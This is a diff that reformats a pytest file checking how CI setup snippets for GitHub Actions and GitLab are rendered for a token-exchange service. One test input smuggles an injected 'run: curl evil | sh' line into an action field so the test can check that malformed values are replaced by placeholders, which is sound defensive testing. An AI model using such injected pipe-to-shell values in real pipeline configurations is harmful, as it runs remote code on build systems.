@@ -5,8 +5,7 @@ from __future__ import annotations
 
 import pytest
 import yaml
-from hypothesis import given
-from hypothesis import strategies as st
+from hypothesis import given, strategies as st
 
 from exchange.console.ci_client_setup import ACTION_PLACEHOLDER, COMPONENT_PLACEHOLDER, ci_client_snippets_render
 from tests.ci.runners import ACTION, component_documents, component_interpolated
@@ -17,10 +16,18 @@ ROLES = ("arn:aws:iam::111122223333:role/deploy", "arn:aws:iam::444455556666:rol
 
 
 def _render(**fields):
-    values = {"public_url": URL, "tenant_slug": "acme", "role_arns": ROLES[:1], "region": "eu-west-1",
-              "github_issuer_id": "github", "github_audiences": [f"{URL}/t/acme"], "gitlab_issuer_id": "gitlab",
-              "gitlab_audiences": [f"{URL}/t/acme"], "action": "octo-org/jwtex@0123abcd",
-              "component": "gitlab.example.com/platform/jwtex/jwtex-token@1.2.0"}
+    values = {
+        "public_url": URL,
+        "tenant_slug": "acme",
+        "role_arns": ROLES[:1],
+        "region": "eu-west-1",
+        "github_issuer_id": "github",
+        "github_audiences": [f"{URL}/t/acme"],
+        "gitlab_issuer_id": "gitlab",
+        "gitlab_audiences": [f"{URL}/t/acme"],
+        "action": "octo-org/jwtex@0123abcd",
+        "component": "gitlab.example.com/platform/jwtex/jwtex-token@1.2.0",
+    }
     return ci_client_snippets_render(**{**values, **fields})
 
 
@@ -51,8 +58,14 @@ def test_the_gitlab_job_includes_the_component_with_inputs_it_accepts():
     assert set(include["inputs"]) <= set(component_documents()[0]["spec"]["inputs"])
 
 
-@pytest.mark.parametrize("action, component", [("", ""), ("octo-org/jwtex", "gitlab.example.com/jwtex@1"),
-                                               ("x\nrun: curl evil | sh", "h/p/jwtex-token@1\n  evil: 1")])
+@pytest.mark.parametrize(
+    "action, component",
+    [
+        ("", ""),
+        ("octo-org/jwtex", "gitlab.example.com/jwtex@1"),
+        ("x\nrun: curl evil | sh", "h/p/jwtex-token@1\n  evil: 1"),
+    ],
+)
 def test_unset_or_malformed_locations_show_placeholders_that_cannot_run(action, component):
     snippets = _render(action=action, component=component)
     assert _step(snippets.github_action)["uses"] == ACTION_PLACEHOLDER
@@ -62,8 +75,9 @@ def test_unset_or_malformed_locations_show_placeholders_that_cannot_run(action, 
 
 
 def test_notes_for_a_missing_issuer_a_refused_audience_and_other_accounts():
-    snippets = _render(github_issuer_id=None, github_audiences=None, gitlab_audiences=["https://gitlab.com"],
-                       role_arns=ROLES)
+    snippets = _render(
+        github_issuer_id=None, github_audiences=None, gitlab_audiences=["https://gitlab.com"], role_arns=ROLES
+    )
     assert "No GitHub Actions issuer in this tenant yet" in snippets.github_action
     assert "issuer-id" not in _step(snippets.github_action)["with"]
     assert "does not accept the audience the job asks for yet" in snippets.gitlab_component
